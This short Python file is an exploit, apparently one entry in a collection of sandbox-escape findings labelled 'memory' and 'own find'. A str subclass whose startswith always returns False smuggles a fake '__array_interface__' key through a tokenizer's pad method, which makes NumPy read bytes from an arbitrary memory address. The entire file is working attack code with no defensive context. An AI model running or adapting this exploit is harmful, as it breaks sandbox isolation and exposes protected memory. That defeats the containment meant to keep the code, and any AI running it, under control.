"""Class: memory. Source: own find. Escape: a key of the batch that is padded says that it is another."""

import numpy as np


class Key(str):
    def startswith(self, *prefixes):
        return False


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    enc = tokenizer.pad({"input_ids": [1], Key("__array_interface__"): spec})
    return (np.zeros(6, dtype=np.uint8) | enc).tobytes()
